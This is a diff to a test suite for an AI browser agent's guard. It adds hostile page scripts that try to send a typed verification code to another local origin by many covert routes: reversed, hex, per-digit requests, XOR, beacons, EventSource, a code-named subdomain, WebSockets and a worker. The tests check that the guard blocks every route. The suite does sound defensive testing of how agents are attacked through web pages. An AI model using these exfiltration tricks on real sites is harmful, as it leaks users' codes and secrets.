@@ -3,8 +3,9 @@ Chromium, through `MinimPage` and `AsyncMinimPage`: typing a placeholder into a 
 <iframe> or into a form that submits elsewhere, `goto` to javascript:/data:/blob:/file:/
 vbscript: URLs, popups, target=_blank links and new tabs, and page scripts sending the code
 (raw, dashed, in base64, in a path, a header or a body) or any `otp=`/`password=`/`pin=`
-parameter to another origin. Each test asserts on what the other origin's server received,
-and on the audit log.
+parameter to another origin, and page scripts sending on a value the agent typed in forms no
+content check knows (reversed, hex, a digit a request, over a WebSocket, from a later page of
+the site). Each test asserts on what the other origin's server received, and on the audit log.
 
 One local server answers as two origins: http://127.0.0.1:PORT (the site, "A") and
 http://localhost:PORT (another site, "B"); it records every request with the host it was
@@ -27,6 +28,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import websockets.sync.server as websockets_server
 from playwright.async_api import async_playwright
 from playwright.sync_api import Page
 from view_lines import find_line
@@ -59,7 +61,43 @@ PAGES: dict[str, str] = {
     "/a/ok": _SHOWN + '<form action="/verify" method="post"><label>Verification code <input name="code"></label>'
     "<button>Verify</button></form>",
     "/a/scripts": _SHOWN + "<p>Scripts on this page try to send the code elsewhere.</p>",
+    # the site's own form; its scripts send on what is typed, in every form they can think of,
+    # and keep it for the site's next page (which tries again after the form is sent)
+    "/a/typed": _SHOWN + '<img alt="logo" src="{B}/b/logo.png">'
+    '<form action="/a/next" method="post"><label>Verification code <input id="typed" name="code"></label>'
+    "<button>Verify</button></form><script>{SEND_ON}</script>",
 }
+# Run by the typed page on every change of its field, and by its next page on what was kept.
+SEND_ON = """
+const sendOn = (v, a, b, ws, tag) => {
+  const q = (u, init = {}) => fetch(u, {mode: 'no-cors', ...init}).catch(() => {});
+  const rev = v.split('').reverse().join('');
+  const tries = [
+    () => q(b + '/collect?rev=' + rev),
+    () => q(b + '/collect?hex=' + Array.from(v).map(c => c.charCodeAt(0).toString(16)).join('')),
+    () => q(b + '/collect?commas=' + v.split('').join(',')),
+    () => v.split('').forEach((d, i) => q(b + '/collect?i=' + i + '&d=' + d)),
+    () => q(b + '/collect?xor=' + v.split('').map(d => +d ^ 5).join('')),
+    () => q(b + '/collect', {method: 'POST', body: JSON.stringify({n: Number(v) + 1111111})}),
+    () => navigator.sendBeacon(b + '/collect', rev),
+    () => { const es = new EventSource(b + '/collect?es=' + rev); setTimeout(() => es.close(), 300); },
+    () => { new Image().src = b.replace('//', '//' + rev + '.') + '/pixel.png'; },  // a new host named by the code
+    () => { const s = new WebSocket(ws); s.onopen = () => s.send(tag + rev); },
+    () => new Worker(URL.createObjectURL(new Blob(
+      ["const s = new WebSocket('" + ws + "'); s.onopen = () => s.send('" + tag + "worker-" + rev + "');"]))),
+    () => { new Image().src = b + '/b/logo-' + tag + '.png'; },  // a plain read of a host used before
+  ];
+  for (const t of tries) { try { t(); } catch (e) {} }
+  setTimeout(() => q(a + '/collect?sent=' + tag), 800);  // same site: the marker
+};
+const field = document.getElementById('typed');
+if (field) field.addEventListener('input', () => {
+  sessionStorage.setItem('kept', field.value);
+  if (field.value.length >= 6) sendOn(field.value, '{A}', '{B}', '{WS}', 'typed-');
+});
+const kept = sessionStorage.getItem('kept');
+if (!field && kept) sendOn(kept, '{A}', '{B}', '{WS}', 'next-');
+"""
 
 # What hostile page scripts try (run with page.evaluate: [B, A]); the last two must arrive.
 EXFILTRATE = """async ([b, a]) => {
@@ -116,6 +154,8 @@ class TwoOrigins:
     a: str
     b: str
     records: list[dict[str, str]] = field(default_factory=list)
+    ws: str = ""  # a WebSocket server on B's host
+    messages: list[str] = field(default_factory=list)  # what it received
 
     def sent_to(self, site: str) -> str:
         """Everything requests to `site` ("a" or "b") carried: paths, headers, bodies."""
@@ -165,11 +205,17 @@ def _handler(origins: TwoOrigins) -> type[BaseHTTPRequestHandler]:
                 self._send(200, b"<p>ok</p>")
                 return
             html = f"<!doctype html><html><head><title>Sign-in check</title></head><body>{page}</body></html>"
+            html = html.replace("{SEND_ON}", SEND_ON).replace("{WS}", origins.ws)
             self._send(200, html.replace("{A}", origins.a).replace("{B}", origins.b).encode())
 
         def do_POST(self) -> None:  # noqa: N802
             length = int(self.headers.get("Content-Length") or 0)
             self._record(self.rfile.read(length).decode("utf-8", "replace"))
+            if self.path == "/a/next":  # the typed page's form: the site's next page runs its scripts again
+                html = f"<!doctype html><title>Signed in</title><p>Signed in.</p><script>{SEND_ON}</script>"
+                html = html.replace("{WS}", origins.ws).replace("{A}", origins.a).replace("{B}", origins.b)
+                self._send(200, html.encode())
+                return
             self._send(200, b"<p>Verification received</p>")
 
         def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - quiet
@@ -186,16 +232,26 @@ def two_origins() -> Iterator[TwoOrigins]:
     origins.a, origins.b = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
+
+    def keep(socket: Any) -> None:
+        for message in socket:
+            origins.messages.append(str(message))
+
+    sockets = websockets_server.serve(keep, "127.0.0.1", 0)
+    origins.ws = f"ws://localhost:{sockets.socket.getsockname()[1]}"
+    threading.Thread(target=sockets.serve_forever, daemon=True).start()
     try:
         yield origins
     finally:
         server.shutdown()
         server.server_close()
+        sockets.shutdown()
 
 
 @pytest.fixture
 def sites(two_origins: TwoOrigins) -> TwoOrigins:
     two_origins.records.clear()
+    two_origins.messages.clear()
     return two_origins
 
 
@@ -306,6 +362,63 @@ def test_page_scripts_cannot_send_secrets_to_another_origin(page: Page, sites: T
     assert len(records) >= 9, records
     assert {"url", "body", "header"} <= {w for r in records for w in r["where"]}
     assert any("[OTP_" in p for r in records for p in r["placeholders"])
+
+
+TYPED_FORMS = ("392748", "383437323933", "8,4,7,2,9,3", "d=8", "d=3", "xor=", "1958404", "392748.localhost")
+
+
+def assert_typed_value_stayed(sites: TwoOrigins, tag: str) -> None:
+    """Nothing the scripts composed reached the other site, the plain read did, and the
+    WebSocket server heard nothing; `tag` is the sender ("typed-" page or "next-" page)."""
+    sites.wait_for("a", f"sent={tag}")
+    received = sites.sent_to("b")
+    assert not [form for form in (*TYPED_FORMS, CODE) if form in received], received
+    assert "/collect" not in received, received  # not even the forms no one listed here
+    assert f"GET /b/logo-{tag}.png" in received  # a plain read of a host the page used before goes
+    assert not sites.messages, sites.messages  # page and worker WebSockets to another site
+
+
+def test_page_scripts_cannot_send_on_a_typed_value_in_any_form(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
+    log = tmp_path / "audit.jsonl"
+    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)  # guarding from the first request
+    page.goto(f"{sites.a}/a/typed")
+    text = agent.observe()
+    agent.act(f'type [{find_line(text, "textbox", "verification code")}] "{OTP.search(text).group(0)}"')
+    assert page.get_by_label("Verification code").input_value() == CODE
+    page.wait_for_timeout(1500)  # the sync API routes requests only while it is called
+    assert_typed_value_stayed(sites, "typed-")
+    reasons = {r["reason"] for r in blocked(log)}
+    assert any("holds a value the agent typed" in reason for reason in reasons), reasons
+    # the site gets its code, and its next page (a new document that kept it) is held too
+    sites.records.clear()
+    page.get_by_role("button", name="Verify").click()
+    page.wait_for_url(f"{sites.a}/a/next")
+    page.wait_for_timeout(1500)
+    assert f"code={CODE}" in sites.sent_to("a")
+    assert_typed_value_stayed(sites, "next-")
+
+
+def test_async_twin_holds_the_site_a_value_is_typed_into(sites: TwoOrigins, minim_factory, tmp_path):
+    log = tmp_path / "audit.jsonl"
+
+    async def episode() -> str:
+        async with async_playwright() as pw:
+            browser = await pw.chromium.launch(**launch_options())
+            page = await (await browser.new_context()).new_page()
+            agent = AsyncMinimPage(page, TASK, minim=minim_factory(), audit_log=log)
+            await agent._ensure_guard()  # guarding from the first request
+            await page.goto(f"{sites.a}/a/typed")
+            text = await agent.observe()
+            await agent.act(f'type [{find_line(text, "textbox", "verification code")}] "{OTP.search(text).group(0)}"')
+            value = await page.get_by_label("Verification code").input_value()
+            await asyncio.sleep(1.5)
+            await page.context.close()
+            await browser.close()
+        return value
+
+    assert run_async(episode) == CODE
+    assert_typed_value_stayed(sites, "typed-")
+    assert any("holds a value the agent typed" in r["reason"] for r in blocked(log))
 
 
 def test_popups_links_and_new_tabs_are_guarded(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
